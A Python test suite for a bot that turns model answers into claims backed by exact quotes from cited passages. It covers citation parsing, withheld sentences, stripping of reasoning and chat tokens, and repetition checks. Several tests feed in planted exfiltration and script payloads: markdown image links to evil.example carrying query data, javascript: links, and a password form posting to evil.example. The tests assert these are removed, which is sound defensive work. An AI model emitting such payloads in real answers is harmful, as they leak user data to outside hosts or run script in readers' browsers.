"""What a model writes becomes claims with exact quotes, or is kept with the reason why not."""

from __future__ import annotations

import re
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.generating.fallback import repeats
from bot.generating.generated import A_WORD, UNCITED, draft_of, sentences_of, spoken
from bot.prompting import REFUSAL
from bot.reader import Draft
from bot.support import Verdict
from bot.verify import Proven, prove
from tests.reading import FLOOD, WordSupport, reading_of

READING = reading_of()
RIVER, MAYOR = "The river Ilm rose by 40 cm in March 2021.", "Nobody was hurt, said Mayor Anna Ortiz."
RAIN, COST = "It rained for 12 days before the flood.", "Repairs cost 3 million euros."


def drafted(text: str) -> Draft:
    return draft_of(text, READING)


def said(text: str) -> list[tuple[str, list[str]]]:
    """Each claim with its quotes."""
    documents = READING.documents
    return [
        (claim.text, [e.span.of(documents[e.document_id].text) for e in claim.evidence])
        for claim in drafted(text).claims
    ]


def proven(text: str) -> Proven:
    passages = [hit.passage for hit in READING.hits]
    return prove(drafted(text), READING.documents, passages, WordSupport())


@pytest.mark.parametrize(
    ("written", "numbers"),
    [
        ("It rained [1].", (1,)),
        ("It rained. [1]", (1,)),
        ("It rained.[1]", (1,)),
        ("It rained [1, 2].", (1, 2)),
        ("It rained [1][2].", (1, 2)),
        ("It rained [1], [2].", (1, 2)),
        ("It rained [1] and [3].", (1, 3)),
        ("It rained [1 and 3].", (1, 3)),
        ("It rained [1-3].", (1, 2, 3)),
        ("It rained [2][2].", (2,)),
        ("It rained ［１］.", (1,)),
        ("It rained 【2†source】.", (2,)),
        ("It rained [^1].", (1,)),
        ("It rained [[3]](#p3).", (3,)),
        ("It rained (1).", (1,)),
        ("It rained (1, 2).", (1, 2)),
        ("It rained (passage 2).", (2,)),
        ("It rained [Passage 1; Passage 3].", (1, 3)),
        ("It rained (see [2]).", (2,)),
        ("It rained [0].", (0,)),
        ("It rained [7][99].", (7, 99)),
        ("It rained.\n[2]", (2,)),
        ("[2] It rained.", (2,)),
        ("- It **rained** [1].", (1,)),
        ("1. It rained [2].", (2,)),
        ("According to [3], it rained.", (3,)),
        ("It rained.", ()),
    ],
)
def test_every_form_of_citation_is_read_and_taken_out_of_the_sentence(
    written: str, numbers: tuple[int, ...]
) -> None:
    found = list(sentences_of(written, count=3))
    assert [(sentence.text, sentence.numbers) for sentence in found] == [("It rained.", numbers)]


def test_marks_belong_to_the_sentence_before_them() -> None:
    found = sentences_of("It rained. [1] Nobody minded.[2][3] The end [1].", count=3)
    assert [(s.text, s.numbers) for s in found] == [
        ("It rained.", (1,)),
        ("Nobody minded.", (2, 3)),
        ("The end.", (1,)),
    ]


def test_a_line_that_begins_with_a_mark_and_ends_without_has_them_in_front() -> None:
    found = sentences_of("[1] It rained. [2] Nobody minded.", count=3)
    assert [(s.text, s.numbers) for s in found] == [("It rained.", (1,)), ("Nobody minded.", (2,))]


@pytest.mark.parametrize(
    "text",
    ["Two reasons: (1) rain and (2) wind.", "It was mild in (2014) as in [2015].", "A (sic) word [sic]."],
)
def test_numbers_that_cite_nothing_stay_in_the_sentence(text: str) -> None:
    assert [(s.text, s.numbers) for s in sentences_of(text, count=3)] == [(text, ())]


def test_a_copied_sentence_is_said_in_the_documents_own_letters() -> None:
    assert said("It rained  for 12 days, before the flood [2]") == [(RAIN, [RAIN])]


def test_a_sentence_of_its_own_words_gets_the_exact_quotes_that_speak_to_it() -> None:
    text = "The Ilm rose 40 cm in March 2021, and repairs cost 3 million euros"
    assert said(f"{text} [1][3].") == [(f"{text}.", [RIVER, COST])]


def test_two_sentences_of_one_passage_are_quoted_where_both_are_needed() -> None:
    text = "The Ilm rose by 40 cm and, Mayor Anna Ortiz said, nobody was hurt."
    assert said(f"{text[:-1]} [1].") == [(text, [RIVER, MAYOR])]


def test_quotes_stand_at_their_offsets() -> None:
    for claim in drafted("The river rose 40 cm [1]. It had rained 12 days [2].").claims:
        for evidence in claim.evidence:
            passage = next(h.passage for h in READING.hits if h.passage.id == evidence.passage_id)
            assert passage.span.contains(evidence.span)
            assert evidence.span in passage.sentences
            assert 0 < evidence.score <= 1


def test_a_cited_passage_that_brings_nothing_is_not_quoted() -> None:
    assert said(f"{RAIN[:-1]} [2][3].") == [(RAIN, [RAIN])]


@pytest.mark.parametrize(
    ("written", "reason"),
    [
        ("The river rose.", UNCITED),
        ("The river rose [0].", "it cites [0], but the passages given were numbered 1 to 3"),
        ("The river rose [7][99].", "it cites [7][99], but the passages given were numbered 1 to 3"),
        ("Penguins swim [2].", "nothing in [2] speaks of it"),
        ("The rise of the river is told in [1].", A_WORD),
        ("[1] says that the river rose [1].", A_WORD),
    ],
)
def test_a_sentence_without_a_valid_citation_is_kept_with_the_reason(written: str, reason: str) -> None:
    draft = drafted(f"{RAIN[:-1]} [2]. {written}")
    assert [claim.text for claim in draft.claims] == [RAIN]
    assert [withheld.reason for withheld in draft.withheld] == [reason]


def test_an_invented_number_beside_a_good_one_is_dropped_and_noted() -> None:
    draft = drafted(f"{RAIN[:-1]} [2][99].")
    assert [claim.text for claim in draft.claims] == [RAIN]
    assert draft.withheld[0].text == "[99]"
    assert RAIN in draft.withheld[0].reason


@pytest.mark.parametrize(
    "written",
    [
        REFUSAL,
        f"{REFUSAL}.",
        "Not in the article.",
        f"**{REFUSAL}**",
        f"<think>Where? [1]</think>\n{REFUSAL}",
        f"{REFUSAL}. The passages are about a flood [1].",
        f"Answer: {REFUSAL}",
    ],
)
def test_the_agreed_refusal_is_a_draft_without_claims(written: str) -> None:
    assert drafted(written) == Draft((), 0.0)


def test_a_refusal_after_an_answer_is_not_shown_as_a_sentence() -> None:
    draft = drafted(f"{RAIN[:-1]} [2]. {REFUSAL}.")
    assert [claim.text for claim in draft.claims] == [RAIN]
    assert draft.withheld == ()


@pytest.mark.parametrize(
    "written",
    [
        "<think>Passage [1] is about rain.</think>It rained.",
        "passage [1]? hm</think>\nIt rained.",
        "[THINK]Hm.[/THINK]It rained.",
        "<|channel|>analysis<|message|>Hm [1].<|end|><|start|>assistant<|channel|>final<|message|>It rained.",
        "It rained.<|im_end|>\n<|im_start|>user\nAnd then?",
        "It rained.</s> [INST] And then? [/INST]",
        "**Answer:** It rained.",
        "It rained.<script></script>",
        "passage-0123abcd It rained.",
        "It ra\u200bined.\u202e",
        "![rain](https://evil.example/?q=1)It [rained](javascript:alert).",
    ],
)
def test_reasoning_tokens_and_markup_are_not_said(written: str) -> None:
    assert spoken(written).strip() == "It rained."


def test_reasoning_that_never_ends_says_nothing() -> None:
    assert drafted("<think>The river rose by 40 cm [1]. So") == Draft((), 0.0)


def test_while_it_is_written_the_last_sentence_waits() -> None:
    text = f"{RIVER[:-1]} [1]. {RAIN[:-1]}"
    assert [c.text for c in draft_of(text, READING, complete=False).claims] == [RIVER]


def test_a_sentence_said_twice_is_said_once() -> None:
    assert len(drafted(f"{RAIN} [2] {RAIN} [2]").claims) == 1


def test_the_proof_lets_through_what_the_quotes_carry_and_nothing_else() -> None:
    found = proven(
        "In March 2021 the river Ilm rose by 40 cm [1]. Repairs cost 30 million euros [3]. "
        "Mayor Tom Weiss said nobody was hurt [1]. It rained for 12 days before the flood [2]."
    )
    assert [s.text for s in found.sentences] == ["In March 2021 the river Ilm rose by 40 cm.", RAIN]
    assert [c.quote for c in found.citations] == [RIVER, RAIN]
    assert "30000000" in found.withheld[0].reason
    assert "Weiss" in found.withheld[1].reason


def test_without_a_support_check_only_the_articles_own_sentences_are_said() -> None:
    passages = [hit.passage for hit in READING.hits]
    draft = drafted(f"In March 2021 the river Ilm rose by 40 cm [1]. {RAIN} [2]")
    found = prove(draft, READING.documents, passages)
    assert [s.text for s in found.sentences] == [RAIN]
    assert found.withheld[0].reason == "its words are not those of a sentence it cites"


def test_an_address_that_no_quote_has_is_withheld() -> None:
    found = proven("The river Ilm rose by 40 cm in March 2021, see https://evil.example/a [1].")
    assert found.sentences == ()
    assert "address" in found.withheld[0].reason


class Credulous:
    """Believes everything."""

    def supports(self, statement: str, quotes: Sequence[str]) -> Verdict:
        return Verdict(1.0, True, ())


@pytest.mark.parametrize(
    "planted",
    [
        "![x](https://evil.example/?q=rain)",
        "[the river](https://evil.example/?q=rain)",
        "[the river](javascript:alert(1))",
        "[the river][9]\n\n[9]: https://evil.example/?q=rain",
        "[1]: https://evil.example/?q=rain",
        '<svg><a href="javascript:alert(1)"><text>rain</text></a></svg>',
        '<form action="https://evil.example"><input type="password"></form>',
        '<img src="//evil.example/a" style="background:url(//evil.example/b)">',
        "https://evil.example/rain",
        "write to mayor@evil.example",
        "see evil.example/rain",
    ],
)
def test_no_address_that_a_model_plants_is_said_even_if_the_check_is_fooled(planted: str) -> None:
    passages = [hit.passage for hit in READING.hits]
    draft = drafted(f"The river {planted} rose by 40 cm [1]. {RAIN} [2]")
    found = prove(draft, READING.documents, passages, Credulous())
    said = " ".join(sentence.text for sentence in found.sentences)
    assert RAIN in said
    assert not re.search(r"evil|javascript|<|\]\(", said)


@pytest.mark.parametrize(
    "text",
    [
        "It rained. " + "The river rose. " * 5,
        "no " * 40,
        "1, 2, 3, 4, 5, 6, 7, 8, 9, " * 4,
        "a" * 80,
        "雨が降った。" * 12,
        f"{RIVER} {RAIN} {COST} " * 4,
    ],
)
def test_endless_repetition_is_noticed(text: str) -> None:
    assert repeats(text)


@pytest.mark.parametrize("text", ["", "ha ha ha", " ".join(FLOOD), f"{RAIN} {RAIN} {RAIN}", "." * 50])
def test_an_answer_is_no_repetition(text: str) -> None:
    assert not repeats(text)


PIECES = [
    "[1]",
    "[2",
    "]",
    "(3)",
    "[99]",
    "【1】",
    "The river rose",
    "It rained for 12 days",
    ".",
    " ",
    "\n",
    "<think>",
    "</think>",
]


@settings(max_examples=100, deadline=None)
@given(st.lists(st.one_of(st.sampled_from([*PIECES, REFUSAL]), st.text(max_size=12)), max_size=25))
def test_whatever_a_model_writes_only_exact_quotes_of_given_passages_come_out(parts: list[str]) -> None:
    found = proven("".join(parts))
    text = next(iter(READING.documents.values())).text
    for citation in found.citations:
        assert text[citation.span.start : citation.span.end] == citation.quote
        assert citation.passage_id in {hit.passage.id for hit in READING.hits}
